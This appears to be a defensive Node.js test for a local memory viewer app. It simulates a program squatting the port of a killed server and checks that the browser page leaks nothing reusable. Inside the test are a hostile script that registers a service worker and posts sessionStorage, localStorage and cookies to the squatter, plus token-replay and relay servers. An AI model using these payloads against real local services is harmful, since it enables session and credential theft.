// Another program takes the port of an owner that was killed, with a page of the dead owner still open in Chromium. Nothing
// that it catches is of use: not with the next owner, and not with one that lives on another port.
//   node squatter.mjs HOLDFAST HOME PROFILE [SHOTS]
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { createServer, request as ask } from "node:http";
import { browser, memory } from "./viewer_scene.mjs";

const [command, home, profile, shots] = process.argv.slice(2);
const { holdfast, link, start, stop } = memory(command, home);
holdfast(["add", "The heron nests behind the boathouse"]);

// A server on both loopback addresses of `port`; `caught` has all that anybody sent.
async function squat(port, answer) {
  const caught = [];
  const listener = async (request, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    caught.push({ method: request.method, url: request.url, headers: request.headers, body });
    answer(request, response, body);
  };
  const servers = [];
  for (const host of ["127.0.0.1", "::1"])
    await new Promise((listens, failed) => {
      const server = createServer(listener);
      server.on("error", (error) => (host === "::1" && error.code === "EADDRNOTAVAIL" ? listens() : failed(error)));
      server.listen({ port, host }, () => { servers.push(server); listens(); });
    });
  return { caught, close: () => Promise.all(servers.map((server) => new Promise((closed) => { server.close(closed); server.closeAllConnections(); }))) };
}

const post = (port, path, body, headers = {}) => new Promise((answered, failed) => {
  const sent = ask({ port, host: "127.0.0.1", path, method: "POST", headers: { "Content-Type": "application/json", ...headers } }, async (response) => {
    let text = "";
    for await (const chunk of response) text += chunk;
    answered({ status: response.statusCode, text });
  });
  sent.on("error", failed);
  sent.end(body);
});

// Everything that was caught, and every word in it, in every way that somebody could show it to an owner.
async function nothingOpens(port, caught) {
  const all = JSON.stringify(caught);
  const words = [...new Set(all.match(/[0-9a-z]{16,}/g) ?? [])];
  const body = JSON.stringify({ method: "core.health", params: {} });
  for (const one of caught.filter((one) => one.method === "POST"))
    assert.notEqual((await post(port, one.url, one.body, one.headers.authorization ? { Authorization: one.headers.authorization } : {})).status, 200, `sent again: ${JSON.stringify(one)}`);
  for (const word of words) {
    assert.notEqual((await post(port, "/api/call", body, { Authorization: `Bearer ${word}` })).status, 200, `as a token: ${word}`);
    assert.notEqual((await post(port, "/api/prove", JSON.stringify({ id: word, nonce: "0".repeat(32) }))).status, 200, `as a name: ${word}`);
    for (const key of words) {
      const mac = createHmac("sha256", key).update(["holdfast page 1", "request", String(port), word, words[0], "1", "/api/call", body].join("\n")).digest("hex");
      if (words.length < 24) assert.notEqual((await post(port, "/api/call", body, { Authorization: `Holdfast ${word} ${words[0]} 1 ${mac}` })).status, 200, `as a key: ${key}`);
    }
  }
  return words.length;
}

const harmless = ({ url, body, headers }) => {
  assert.equal(headers.authorization, undefined, `the page showed a stranger ${headers.authorization}`);
  if (url !== "/api/prove") return assert.equal(body, "", `the page told a stranger ${url} ${body}`);
  assert.deepEqual(Object.keys(JSON.parse(body)), ["id", "nonce"]);
};

const part = async (name, work) => {
  try {
    await work();
  } catch (error) {
    throw new Error(`${name}: ${error.message}`, { cause: error });
  }
};
let context = await browser(profile);
const page = context.pages()[0] ?? (await context.newPage());
page.setDefaultTimeout(60_000);
const shot = async (name) => shots && (await page.screenshot({ path: `${shots}/${name}.png` }));

let squatter;
try {
  const address = await start(0);
  const port = Number(new URL(address).port);
  await page.goto(link());
  await page.waitForSelector(".rows .row");
  const origin = new URL(page.url()).origin;

  await part("a stranger on the port of a dead owner is told nothing", async () => {
    await stop("SIGKILL");
    const lies = { result: { nonce: "0".repeat(32), proof: "0".repeat(64), session: "0".repeat(32) } };
    squatter = await squat(port, (request, response) => {
      response.writeHead(200, { "Content-Type": "application/json", "X-Holdfast-Proof": "0".repeat(64) });
      response.end(JSON.stringify(lies));
    });
    await page.waitForSelector("#notice.over");
    assert.match(await page.textContent("#notice"), /holdfast memory open/);
    await shot("stranger-light");
    const before = squatter.caught.length;
    // A person goes on using the page: it stays silent.
    await page.fill("#query", "a word of mine");
    for (const hash of ["#/timeline", "#/sessions", "#/health"]) {
      await page.evaluate((to) => { location.hash = to; }, hash);
      await page.waitForFunction((to) => location.hash === to, hash);
      await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    }
    assert.equal(squatter.caught.length, before);
    assert.ok(!JSON.stringify(squatter.caught).includes("a word of mine"));
    squatter.caught.forEach(harmless);
    await squatter.close();
  });

  const stolen = [];
  await part("the page is loaded again, from the stranger", async () => {
    const files = {
      "/": ["text/html", `<!doctype html><title>squat</title><script src="viewer.js"></script>`],
      "/viewer.js": ["text/javascript", `window.squatted = true; onload = async () => {
        await navigator.serviceWorker.register("sw.js", { scope: "/" });
        await navigator.serviceWorker.ready;
        await fetch("caught", { method: "POST", body: JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie, location.href, document.referrer]) });
        document.title = "done";
      };`],
      "/sw.js": ["text/javascript", `onfetch = (event) => event.respondWith(new Response("<title>squat</title><script>window.squatted = true</script>", { headers: { "Content-Type": "text/html" } }));`],
    };
    squatter = await squat(port, (request, response) => {
      const [type, text] = files[request.url] ?? ["text/plain", ""];
      response.writeHead(200, { "Content-Type": type, "Cache-Control": "public, max-age=31536000, immutable", "Service-Worker-Allowed": "/" });
      response.end(text);
    });
    await page.goto(`${origin}/`);
    await page.waitForFunction(() => document.title === "done");
    stolen.push(...squatter.caught);
    assert.ok(stolen.some(({ url, body }) => url === "/caught" && body.includes("session")), "what the origin had stored was caught");
    await squatter.close();
  });

  await part("the next owner on that port takes nothing of it", async () => {
    assert.equal(await start(port), address);
    assert.ok((await nothingOpens(port, stolen)) >= 2, "there was something to try");
  });

  await part("and its own page is not the stranger's", async () => {
    await page.goto(link());
    await page.waitForSelector(".rows .row:has-text('heron')");
    assert.equal(await page.evaluate(() => window.squatted ?? navigator.serviceWorker.controller), null);
  });

  await part("a stranger that accepts and says nothing", async () => {
    await stop("SIGKILL");
    squatter = await squat(port, (request, response) => { if (request.url === "/api/prove" && squatter.caught.length > 1) response.writeHead(200).write("{"); });
    await page.waitForSelector("#notice.over");
    assert.match(await page.textContent("#notice"), /holdfast memory open/);
    assert.ok(squatter.caught.length > 1);
    squatter.caught.forEach(harmless);
    await squatter.close();
    assert.equal(await start(port), address);
    await page.goto(link());
    await page.waitForSelector(".rows .row:has-text('heron')");
  });

  await part("a stranger that hands everything on to the living owner elsewhere", async () => {
    await stop("SIGKILL");
    const living = Number(new URL(await start(port > 30_000 ? port - 2000 : port + 2000)).port);
    assert.notEqual(living, port);
    squatter = await squat(port, (request, response, body) => {
      const onward = ask({ port: living, host: "127.0.0.1", path: request.url, method: request.method, headers: { ...request.headers, host: `127.0.0.1:${living}`, ...(request.headers.origin && { origin: `http://127.0.0.1:${living}` }) } }, (answer) => {
        response.writeHead(answer.statusCode, answer.headers);
        answer.pipe(response);
      });
      onward.on("error", () => response.destroy());
      onward.end(body);
    });
    // The page of the dead owner, which asks again by itself …
    await page.waitForSelector("#notice.over");
    squatter.caught.forEach(harmless);
    await nothingOpens(living, squatter.caught);
    // … and a link of the living owner that leads to the stranger's port: with the true page, and no proof for that port.
    squatter.caught.length = 0;
    const good = link();
    await page.goto(good.replace(`:${living}/`, `:${port}/`));
    await page.waitForSelector("text=Another program answers at this address");
    await shot("relay-light");
    squatter.caught.forEach(harmless);
    await page.goto(good);
    await page.waitForSelector(".rows .row:has-text('heron')"); // it was not used up
    await squatter.close();
  });
} finally {
  await context.close();
  await stop();
}
console.log("passed");
process.exit(0); // whatever a squatter still has open
